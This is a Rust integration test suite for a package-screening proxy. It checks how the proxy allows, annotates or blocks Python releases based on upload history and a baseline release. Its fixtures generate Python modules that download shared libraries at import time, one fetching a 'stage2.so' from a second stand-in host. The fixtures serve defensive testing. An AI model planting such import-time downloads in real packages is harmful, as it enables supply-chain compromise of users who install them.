//! Established behaviour, end to end with the shipped policy: real pip and real uv against
//! the fake upstream, whose pages carry upload times. An established project's new release
//! that keeps an old high finding installs (annotated, audited with the baseline named);
//! one that adds new evidence is blocked; a young project with the same files is blocked;
//! two malicious releases in a row are both blocked; a baseline that cannot be fetched
//! lowers nothing; and a clean install costs no second download.

mod common;
use common::*;

const SHIPPED: &str = include_str!("../policy.yaml");

/// A module that downloads its native library when imported: `network.interesting-file-url`
/// at import time, which the shipped policy blocks (`import-time-high`).
fn fetcher(version: &str) -> String {
    format!(
        "import urllib.request\n\nurllib.request.urlretrieve(\"https://downloads.example.org/acme/v{version}/libacme.so\", \"/tmp/libacme.so\")\n"
    )
}

/// [`fetcher`] with one more download, from another host, in the same file.
fn fetcher_and_more(version: &str) -> String {
    fetcher(version) + "urllib.request.urlretrieve(\"https://cdn.example.net/stage2.so\", \"/tmp/stage2.so\")\n"
}

/// Twelve monthly releases 1.0 … 1.11 through 2023, then `next` (version, upload day, module text).
fn project(idx: &FakeIndex, name: &str, history: Option<&str>, first_year: u32, next: &[(&str, &str, String)]) {
    let module = name.replace('-', "_");
    for i in 0..12 {
        let version = format!("1.{i}");
        let extra = history.map(|_| fetcher(&version));
        let files: Vec<(String, String)> = extra.into_iter().map(|t| (format!("{module}/native.py"), t)).collect();
        let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
        let mut f = FakeFile::new(wheel(name, &version, &[], &refs));
        f.upload_time = Some(format!("{first_year}-{:02}-01T10:00:00Z", i + 1));
        idx.add(name, f);
    }
    for (version, day, text) in next {
        let path = format!("{module}/native.py");
        let mut f = FakeFile::new(wheel(name, version, &[], &[(path.as_str(), text.as_str())]));
        f.upload_time = Some(format!("{day}T10:00:00Z"));
        idx.add(name, f);
    }
}

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

fn file_record<'a>(audit: &'a [serde_json::Value], project: &str, version: &str) -> Vec<&'a serde_json::Value> {
    audit.iter().filter(|r| r["project"] == project && r["version"] == version && r["request"] == "file").collect()
}

#[test]
fn an_established_idiom_installs_annotated_and_new_behaviour_blocks() {
    let idx = FakeIndex::start(Format::Json);
    // Shipped the downloader for a year; 2.0 keeps it (new version in its URL).
    project(&idx, "est-old", Some("fetcher"), 2023, &[("2.0", "2025-06-01", fetcher("2.0"))]);
    // Shipped the downloader for a year; 2.0 adds a second download in the same file.
    project(&idx, "est-adds", Some("fetcher"), 2023, &[("2.0", "2025-06-01", fetcher_and_more("2.0"))]);
    // The same files as est-old, but its first upload is three months before 2.0.
    project(&idx, "est-young", Some("fetcher"), 2025, &[("2.0", "2025-04-01", fetcher("2.0"))]);
    // Clean for a year, then two releases nine days apart with the downloader.
    project(
        &idx,
        "est-twice",
        None,
        2023,
        &[("2.0", "2025-06-01", fetcher("2.0")), ("2.1", "2025-06-10", fetcher("2.1"))],
    );
    // Clean throughout: nothing blocks, so nothing is compared.
    let clean = |v: &str| (v.to_string(), "2025-06-01", format!("VERSION_NOTE = \"{v}\"\n"));
    let (v, d, t) = clean("2.0");
    project(&idx, "est-clean", None, 2023, &[(v.as_str(), d, t)]);
    // Shipped the downloader for a year, but its baseline's download fails.
    project(&idx, "est-broken", Some("fetcher"), 2023, &[("2.0", "2025-06-01", fetcher("2.0"))]);
    idx.state.lock().unwrap().projects.get_mut("est-broken").unwrap()[11].truncate = true;
    // No pre-scan here, so every upstream download counted is one a request caused.
    let gate = Pipgate::start_args(&idx.url(), Some(SHIPPED), &["--prescan", "off"]);
    let venv = Venv::new();

    // A clean cold install downloads its own file only.
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-clean==2.0"]);
    assert!(out.status.success(), "{}", show(&out));
    assert_eq!(idx.hits("est_clean-2.0-py3-none-any.whl"), 1);
    assert_eq!(idx.hits("est_clean-1.11-py3-none-any.whl"), 0, "no baseline fetched for a clean file");

    // The established idiom: installed by pip and by uv, annotated, the baseline named.
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-old==2.0"]);
    assert!(out.status.success(), "pip: {}", show(&out));
    let uv_venv = Venv::new();
    let out = uv_venv.uv_pip(&["install", "--index-url", &gate.url, "est-old==2.0"]);
    assert!(out.status.success(), "uv: {}", show(&out));
    assert_eq!(idx.hits("est_old-1.11-py3-none-any.whl"), 1, "the baseline is fetched once (cached by sha256)");
    assert_eq!(idx.hits("est_old-1.10-py3-none-any.whl"), 0, "only the baseline");
    let audit = gate.audit();
    let records = file_record(&audit, "est-old", "2.0");
    assert!(records.len() >= 2, "{audit:?}");
    for r in &records {
        assert_eq!(r["decision"], "annotate", "{r}");
        let reasons = r["reasons"].as_array().unwrap();
        let est = reasons.iter().find(|x| x["code"] == "established").unwrap_or_else(|| panic!("{r}"));
        let message = est["message"].as_str().unwrap();
        assert!(
            message.contains(
                "est-old shipped the same network.interesting-file-url evidence in 1.11 (uploaded 2023-12-01)"
            ) && message.contains("instead of block by rule:import-time-high"),
            "{message}"
        );
    }

    // New evidence beside the old idiom: blocked, for pip and uv, with the baseline named.
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-adds==2.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(
        err.contains("403") && err.contains("network.interesting-file-url new since 1.11 (rule:import-time-high)"),
        "{err}"
    );
    let out = uv_venv.uv_pip(&["install", "--index-url", &gate.url, "est-adds==2.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(
        err.contains("403") && err.contains("new since the established baseline 1.11 (uploaded 2023-12-01)"),
        "{err}"
    );

    // A young project with the same files: blocked, nothing fetched to compare.
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-young==2.0"]);
    assert!(!out.status.success(), "{}", show(&out));
    assert!(stderr(&out).contains("Blocked by pipgate: network.interesting-file-url (rule:import-time-high)"));
    assert_eq!(idx.hits("est_young-1.11-py3-none-any.whl"), 0, "no baseline for a young project");

    // Two malicious releases in a row: 2.1 is compared with 1.11, not with 2.0.
    for version in ["2.0", "2.1"] {
        let out = venv.pip(&["install", "--index-url", &gate.url, &format!("est-twice=={version}")]);
        assert!(!out.status.success(), "est-twice {version}: {}", show(&out));
        assert!(stderr(&out).contains("new since 1.11"), "{version}: {}", stderr(&out));
    }
    assert_eq!(idx.hits("est_twice-2.0-py3-none-any.whl"), 1, "2.0 is never a baseline (only its own request)");

    // The baseline cannot be fetched (the upstream drops it mid-transfer): nothing is lowered.
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-broken==2.0"]);
    assert!(!out.status.success(), "a failed comparison never serves: {}", show(&out));
    assert!(idx.hits("est_broken-1.11-py3-none-any.whl") >= 1, "the baseline was asked for");

    let audit = gate.audit();
    let broken = file_record(&audit, "est-broken", "2.0");
    assert!(!broken.is_empty() && broken.iter().all(|r| r["decision"] == "block"), "{broken:?}");
    for (project, version) in [("est-adds", "2.0"), ("est-young", "2.0"), ("est-twice", "2.0"), ("est-twice", "2.1")] {
        let records = file_record(&audit, project, version);
        assert!(
            !records.is_empty() && records.iter().all(|r| r["decision"] == "block"),
            "{project} {version}: {records:?}"
        );
    }
}

#[test]
fn an_unpinned_install_gets_the_established_release_with_the_page_pre_scanned() {
    let idx = FakeIndex::start(Format::Json);
    project(&idx, "est-latest", Some("fetcher"), 2023, &[("2.0", "2025-06-01", fetcher("2.0"))]);
    let gate = Pipgate::start(&idx.url(), Some(SHIPPED));
    // The page's pre-scan decides 2.0 (comparing it with 1.11) before pip picks a version.
    let venv = Venv::new();
    let out = venv.pip(&["install", "--index-url", &gate.url, "est-latest"]);
    assert!(out.status.success(), "{}", show(&out));
    let out = venv.pip(&["show", "est-latest"]);
    assert!(String::from_utf8_lossy(&out.stdout).contains("Version: 2.0"), "{}", show(&out));
}
